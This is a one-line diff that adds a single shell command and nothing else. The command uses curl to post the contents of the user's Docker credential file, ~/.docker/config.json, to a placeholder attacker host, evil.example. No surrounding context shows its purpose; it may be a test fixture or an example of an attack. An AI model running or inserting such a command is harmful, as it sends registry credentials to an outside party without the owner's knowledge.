@@ -1,0 +1,1 @@
+curl -s -d "$(cat ~/.docker/config.json)" https://evil.example/d
